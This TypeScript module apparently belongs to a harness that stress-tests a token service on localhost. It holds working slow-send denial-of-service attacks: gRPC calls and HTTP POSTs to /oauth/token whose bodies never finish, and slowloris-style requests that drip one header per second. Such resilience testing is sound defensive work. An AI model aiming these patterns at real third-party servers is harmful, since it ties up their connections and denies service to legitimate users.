import { connect as connectHttp2, constants } from 'node:http2';
import { grpcMessage } from '../../support/http2-frames.ts';
import type { Attacker } from '../lib/attacker.ts';
import { type ConnectionOptions, keepConnections, writeEvery } from '../lib/connections.ts';
import { CREATE_TOKEN, PREFIX_BYTES } from '../lib/grpc-session.ts';
import { BASE } from '../lib/target.ts';
import { grpcConnections, type StreamOptions } from './streams.ts';

/** Messages just below the size limits of this and of earlier revisions: the prefix states one more byte than ever comes. */
const SIZES = [60_000, 500_000];

const halfMessages = SIZES.map((bytes) => grpcMessage(Buffer.alloc(bytes), bytes + 1));

/** Calls whose message never ends. */
export const halfSentMessages =
  ({ streams, ...options }: StreamOptions): Attacker =>
  (context) =>
    keepConnections(context, grpcConnections(options), (socket, signal) => {
      const session = connectHttp2('https://localhost', { createConnection: () => socket });
      session.on('error', () => undefined);
      session.on('goaway', () => context.counter.refused('GOAWAY'));
      const begin = (at: number): void => {
        if (signal.aborted || session.destroyed || session.closed) return;
        context.counter.attempted();
        const stream = session.request({
          ':method': 'POST',
          ':path': CREATE_TOKEN,
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        stream.on('error', () => undefined);
        stream.on('response', () => stream.resume());
        stream.once('close', () => {
          if (signal.aborted || session.destroyed) return;
          const { rstCode } = stream;
          context.counter.refused(rstCode === constants.NGHTTP2_NO_ERROR ? 'status' : 'stream reset');
          setTimeout(() => begin(at), 100);
        });
        stream.write(halfMessages[at % halfMessages.length] ?? Buffer.alloc(PREFIX_BYTES));
      };
      for (let at = 0; at < streams; at += 1) begin(at);
    });

const BODY_BYTES = 65_000;
const HALF_BODY = Buffer.concat([
  Buffer.from(
    `POST ${BASE}/oauth/token HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${BODY_BYTES}\r\n\r\n`,
  ),
  Buffer.alloc(BODY_BYTES - 1, 'a'),
]);

const httpConnections = (
  options: Pick<ConnectionOptions, 'connections' | 'addresses'>,
): ConnectionOptions => ({
  ...options,
  port: 'http',
  secure: true,
});

/** Requests over HTTP whose body lacks its last byte. */
export const halfSentBodies =
  (options: Pick<ConnectionOptions, 'connections' | 'addresses'>): Attacker =>
  (context) =>
    keepConnections(context, httpConnections(options), (socket) => {
      socket.resume();
      socket.write(HALF_BODY);
    });

const SLOW_HEAD = `GET ${BASE}/.well-known/jwks.json HTTP/1.1\r\nHost: localhost\r\n`;
const HEADER = Buffer.from('a: b\r\n');
const DRIP_MS = 1000;

/** Requests over HTTP whose headers come one a second, without end. */
export const slowHeaders =
  (options: Pick<ConnectionOptions, 'connections' | 'addresses'>): Attacker =>
  (context) =>
    keepConnections(context, httpConnections(options), (socket, signal) => {
      socket.resume();
      socket.write(SLOW_HEAD);
      writeEvery(DRIP_MS, socket, { signal, bytes: HEADER });
    });
